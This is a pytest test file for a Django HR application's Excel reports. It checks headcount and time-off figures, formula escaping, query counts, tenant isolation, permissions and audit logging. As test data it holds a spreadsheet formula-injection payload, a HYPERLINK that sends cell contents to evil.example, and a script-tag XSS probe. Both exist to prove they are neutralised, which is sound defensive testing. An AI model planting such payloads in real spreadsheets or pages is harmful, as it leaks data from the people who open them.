"""Excel reports: the numbers against data made here, formula escaping, constant query counts,
and the download views (permissions, parameters, tenant isolation, audit line)."""

import datetime
import re
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection, reset_queries
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook, load_workbook

from people.models import EmployeeStatus, LedgerEntryKind, TimeOffLedgerEntry
from people.reports import (
    XLSX_CONTENT_TYPE,
    build_headcount_report,
    build_time_off_usage_report,
    headcount_report,
    safe_cell,
    time_off_usage_report,
)
from people.roles import Role
from people.tenancy import tenant_context
from tests.conftest import login, make_member
from tests.people.factories import DepartmentFactory, EmployeeFactory, TimeOffTypeFactory

pytestmark = pytest.mark.django_db

AS_OF = datetime.date(2026, 11, 22)
HEADCOUNT_URL = "/admin/people/reports/headcount/"
USAGE_URL = "/admin/people/reports/time-off-usage/"
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def sheet_rows(content: bytes, title: str) -> list[tuple]:
    return list(load_workbook(BytesIO(content))[title].iter_rows(values_only=True))


def all_values(content: bytes) -> set:
    book = load_workbook(BytesIO(content))
    return {value for sheet in book for row in sheet.iter_rows(values_only=True) for value in row}


def day(text: str) -> datetime.date:
    return datetime.date.fromisoformat(text)


# --- formula escaping -------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+49 30 1234", "-5", "@SUM(A1:A2)", "\t=1", "-A1*2", EVIL_NAME])
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("S")
    sheet.append([safe_cell(sheet, text)])
    buffer = BytesIO()
    book.save(buffer)
    cell = load_workbook(BytesIO(buffer.getvalue()))["S"]["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_other_values_pass_through_and_illegal_characters_are_dropped():
    sheet = Workbook(write_only=True).create_sheet("S")
    assert safe_cell(sheet, "Plain text") == "Plain text"
    assert safe_cell(sheet, "a\x00b\x07c") == "abc"
    assert safe_cell(sheet, 5) == 5
    assert safe_cell(sheet, Decimal("-2.5")) == Decimal("-2.5")  # numbers stay numbers
    assert safe_cell(sheet, AS_OF) == AS_OF


# --- headcount --------------------------------------------------------------------------------
@pytest.fixture
def organisation(tenant_a, tenant_b):
    """Tenant A on 2026-11-22: joiners, leavers, a future hire, someone serving notice, someone
    without a department. Tenant B has a department and an employee of its own."""
    with tenant_context(tenant_b):
        b_dept = DepartmentFactory(name="B dept")
        EmployeeFactory(first_name="Bobby", last_name="Tables", department=b_dept, employee_number="B1")
    with tenant_context(tenant_a):
        eng = DepartmentFactory(name="Engineering", cost_center="CC-100")
        platform = DepartmentFactory(name="Platform", parent=eng, cost_center="CC-110")
        sales = DepartmentFactory(name="Sales", cost_center="CC-300")
        DepartmentFactory(name="Empty", cost_center="CC-999")
        boss = EmployeeFactory(
            employee_number="E1", first_name="Ada", last_name="Boss", department=eng, job_title="CTO"
        )
        EmployeeFactory(
            employee_number="E2",
            first_name="Ben",
            last_name="Leave",
            department=eng,
            status=EmployeeStatus.ON_LEAVE,
        )
        EmployeeFactory(
            employee_number="E3",
            first_name="Cy",
            last_name="Joiner",
            department=eng,
            hire_date=day("2026-11-10"),
        )
        EmployeeFactory(
            employee_number="E4",
            first_name="Di",
            last_name="Future",
            department=eng,
            hire_date=day("2026-12-01"),
        )
        EmployeeFactory(
            employee_number="P1",
            first_name="Ed",
            last_name="Left",
            department=platform,
            status=EmployeeStatus.TERMINATED,
            termination_date=day("2026-11-15"),
        )
        EmployeeFactory(
            employee_number="P2", first_name="Flo", last_name="Stays", department=platform, manager=boss
        )
        EmployeeFactory(
            employee_number="S1",
            first_name="Gus",
            last_name="Gone",
            department=sales,
            status=EmployeeStatus.TERMINATED,
            termination_date=day("2025-06-30"),
        )
        EmployeeFactory(
            employee_number="S2",
            first_name="Hal",
            last_name="Notice",
            department=sales,
            termination_date=day("2026-11-30"),
        )
        EmployeeFactory(
            employee_number="N1", first_name=EVIL_NAME, last_name="Nobody", job_title="+1 (formula?)"
        )
    return tenant_a


def test_headcount_report_counts_by_department_with_totals(organisation):
    with tenant_context(organisation):
        content = headcount_report(AS_OF)
    rows = sheet_rows(content, "Headcount")
    assert rows[0][0] == "Headcount on 2026-11-22; joiners and leavers in November 2026"
    assert rows[1] == ("Department", "Parent department", "Cost center", "Headcount", "Joiners", "Leavers")
    assert rows[2:] == [
        ("Empty", None, "CC-999", 0, 0, 0),
        ("Engineering", None, "CC-100", 3, 1, 0),  # E1, E2 (on leave), E3 (joined); E4 starts in December
        ("Platform", "Engineering", "CC-110", 1, 0, 1),  # P1 left on the 15th
        ("Sales", None, "CC-300", 1, 0, 1),  # S2 serves notice until the 30th; S1 left last year
        ("No department", None, None, 1, 0, 0),
        ("Total", None, None, 6, 1, 2),
    ]


def test_headcount_report_lists_the_employees_in_the_headcount(organisation):
    with tenant_context(organisation):
        content = headcount_report(AS_OF)
    rows = sheet_rows(content, "Employees")
    assert rows[1] == ("Employee number", "Name", "Job title", "Department", "Manager", "Hire date", "Status")
    listed = {row[0]: row for row in rows[2:]}
    assert set(listed) == {"E1", "E2", "E3", "P2", "S2", "N1"}
    assert listed["P2"] == (
        "P2",
        "Flo Stays",
        "Engineer",
        "Platform",
        "Ada Boss (E1)",
        datetime.datetime(2020, 1, 6),
        "active",
    )
    assert listed["E2"][-1] == "on_leave" and listed["N1"][3] == "No department"


def test_headcount_report_escapes_formulae_from_the_data(organisation):
    with tenant_context(organisation):
        content = headcount_report(AS_OF)
    sheet = load_workbook(BytesIO(content))["Employees"]
    n1 = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == "N1")
    assert (n1[1].value, n1[1].data_type) == (f"{EVIL_NAME} Nobody", "s")
    assert (n1[2].value, n1[2].data_type) == ("+1 (formula?)", "s")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_headcount_report_runs_the_same_three_queries_whatever_the_size(organisation):
    reset_queries()  # the query log keeps 9,000 queries: start it empty so the count is exact
    with tenant_context(organisation), CaptureQueriesContext(connection) as small:
        small_report = build_headcount_report(AS_OF)
    with tenant_context(organisation):
        for n in range(40):
            EmployeeFactory(employee_number=f"X{n}", department=DepartmentFactory(name=f"X dept {n}"))
    with tenant_context(organisation), CaptureQueriesContext(connection) as large:
        large_report = build_headcount_report(AS_OF)
    assert len(small) == len(large) == 3
    assert (small_report.rows, large_report.rows) == (5 + 6, 45 + 46)


def test_headcount_report_shows_only_the_active_tenants_data(organisation):
    with tenant_context(organisation):
        values = all_values(headcount_report(AS_OF))
    assert not {"B dept", "B1", "Bobby Tables"} & values


# --- time-off usage ---------------------------------------------------------------------------
def entry(employee, time_off_type, kind, amount, on):
    return TimeOffLedgerEntry.objects.create(
        employee=employee,
        time_off_type=time_off_type,
        kind=kind,
        amount=Decimal(amount),
        effective_date=day(on),
    )


@pytest.fixture
def ledger(tenant_a, tenant_b):
    with tenant_context(tenant_b):
        theirs = EmployeeFactory(employee_number="B1", first_name="Bobby", last_name="Tables")
        entry(theirs, TimeOffTypeFactory(name="B vacation"), LedgerEntryKind.ALLOCATION, "30", "2026-01-01")
    with tenant_context(tenant_a):
        vacation, sick = TimeOffTypeFactory(name="Vacation"), TimeOffTypeFactory(name="Sick leave")
        ann = EmployeeFactory(
            employee_number="E1", first_name="Ann", last_name="Able", department=DepartmentFactory(name="Ops")
        )
        ben = EmployeeFactory(employee_number="E2", first_name="Ben", last_name="Before")
        cy = EmployeeFactory(employee_number="E3", first_name="Cy", last_name="Later")
        for kind, amount, on in [
            (LedgerEntryKind.OPENING_BALANCE, "10", "2025-01-01"),
            (LedgerEntryKind.EXPIRY, "-4", "2025-12-31"),
            (LedgerEntryKind.CARRY_OVER, "3", "2026-01-01"),
            (LedgerEntryKind.ACCRUAL, "2", "2026-02-01"),
            (LedgerEntryKind.DEDUCTION, "-5", "2026-03-02"),
            (LedgerEntryKind.REVERSAL, "2", "2026-03-02"),
            (LedgerEntryKind.ADJUSTMENT, "-1", "2026-06-01"),
            (LedgerEntryKind.EXPIRY, "-2", "2026-12-31"),
            (LedgerEntryKind.DEDUCTION, "-1", "2027-01-11"),  # next year: not in the report
        ]:
            entry(ann, vacation, kind, amount, on)
        entry(ann, sick, LedgerEntryKind.ALLOCATION, "5", "2026-01-01")
        entry(ben, vacation, LedgerEntryKind.OPENING_BALANCE, "3", "2020-01-01")  # nothing left, nothing new
        entry(ben, vacation, LedgerEntryKind.EXPIRY, "-3", "2020-12-31")
        entry(cy, vacation, LedgerEntryKind.ALLOCATION, "20", "2027-01-01")  # starts next year
    return tenant_a


def test_time_off_usage_report_per_employee_and_type(ledger):
    with tenant_context(ledger):
        content = time_off_usage_report(2026)
    rows = sheet_rows(content, "Time-off usage")
    assert rows[0][0] == "Time-off usage 2026 (days)"
    assert rows[1] == (
        "Employee number",
        "Employee",
        "Department",
        "Time-off type",
        "Brought forward",
        "Allocated / accrued",
        "Adjustments",
        "Used",
        "Expired",
        "Balance on 31 Dec",
    )
    assert rows[2:] == [
        ("E1", "Ann Able", "Ops", "Sick leave", 0, 5, 0, 0, 0, 5),
        # 6 brought forward + 5 (carry-over, accrual) - 1 adjusted - 3 used (5 - 2 given back) - 2 expired = 5
        ("E1", "Ann Able", "Ops", "Vacation", 6, 5, -1, 3, 2, 5),
    ]


def test_time_off_usage_report_is_one_grouped_query_and_only_this_tenants(ledger):
    reset_queries()
    with tenant_context(ledger), CaptureQueriesContext(connection) as queries:
        report = build_time_off_usage_report(2026)
    assert len(queries) == 1
    assert report.rows == 2
    assert not {"B1", "Bobby Tables", "B vacation"} & all_values(report.content)


# --- download views ---------------------------------------------------------------------------
@pytest.fixture
def hr_client(client, tenant_a, role_groups):
    return login(client, make_member(tenant_a, Role.HR, email="hr@tenant-a.test"), tenant_a)


@pytest.fixture
def finance_client(client, tenant_a, role_groups):
    return login(client, make_member(tenant_a, Role.FINANCE, email="finance@tenant-a.test"), tenant_a)


def test_hr_downloads_the_headcount_report_of_the_active_tenant_only(hr_client, organisation, caplog):
    with caplog.at_level("INFO", logger="audit"):
        response = hr_client.get(HEADCOUNT_URL, {"as_of": "2026-11-22"})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="headcount-2026-11-22.xlsx"'
    content = response.getvalue()
    assert sheet_rows(content, "Headcount")[-1] == ("Total", None, None, 6, 1, 2)
    assert not {"B dept", "B1", "Bobby Tables"} & all_values(content)
    record = next(r for r in caplog.records if r.name == "audit" and hasattr(r, "report"))
    hr_user_id = response.wsgi_request.user.pk
    assert (record.user_id, record.tenant_id, record.report, record.rows) == (
        hr_user_id,
        organisation.pk,
        "people.headcount",
        11,
    )


def test_hr_downloads_the_time_off_usage_report(hr_client, ledger, caplog):
    with caplog.at_level("INFO", logger="audit"):
        response = hr_client.get(USAGE_URL, {"year": "2026"})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="time-off-usage-2026.xlsx"'
    rows = sheet_rows(response.getvalue(), "Time-off usage")
    assert [row[:4] for row in rows[2:]] == [
        ("E1", "Ann Able", "Ops", "Sick leave"),
        ("E1", "Ann Able", "Ops", "Vacation"),
    ]
    record = next(r for r in caplog.records if r.name == "audit" and hasattr(r, "report"))
    assert (record.report, record.rows, record.tenant_id) == ("people.time_off_usage", 2, ledger.pk)


def test_reports_default_to_today_and_this_year(hr_client, tenant_a):
    headcount = hr_client.get(HEADCOUNT_URL)
    assert headcount.status_code == 200
    assert re.fullmatch(
        r'attachment; filename="headcount-\d{4}-\d{2}-\d{2}\.xlsx"', headcount["Content-Disposition"]
    )
    usage = hr_client.get(USAGE_URL)
    assert usage.status_code == 200
    assert re.fullmatch(r'attachment; filename="time-off-usage-\d{4}\.xlsx"', usage["Content-Disposition"])


def test_reports_refuse_users_without_the_permission(finance_client, client, tenant_a):
    assert finance_client.get(HEADCOUNT_URL, {"as_of": "2026-11-22"}).status_code == 403
    assert finance_client.get(USAGE_URL, {"year": "2026"}).status_code == 403
    client.logout()  # anonymous: the admin's login page
    assert client.get(HEADCOUNT_URL)["Location"].startswith("/admin/login/")
    assert client.get(USAGE_URL)["Location"].startswith("/admin/login/")


@pytest.mark.parametrize(
    ("url", "params", "message"),
    [
        (HEADCOUNT_URL, {"as_of": "2026-13-01"}, "as_of must be a date written YYYY-MM-DD"),
        (HEADCOUNT_URL, {"as_of": "22.11.2026"}, "as_of must be a date written YYYY-MM-DD"),
        (HEADCOUNT_URL, {"as_of": "<script>alert(1)</script>"}, "as_of must be a date written YYYY-MM-DD"),
        (USAGE_URL, {"year": "twenty"}, "year must be a year between 1900 and 2999"),
        (USAGE_URL, {"year": "99999"}, "year must be a year between 1900 and 2999"),
        (USAGE_URL, {"year": "-1"}, "year must be a year between 1900 and 2999"),
    ],
)
def test_reports_answer_400_to_bad_parameters(hr_client, url, params, message):
    response = hr_client.get(url, params)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    body = response.content.decode()
    assert message in body and "<script>" not in body


def test_reports_are_get_only(hr_client):
    assert hr_client.post(HEADCOUNT_URL).status_code == 405
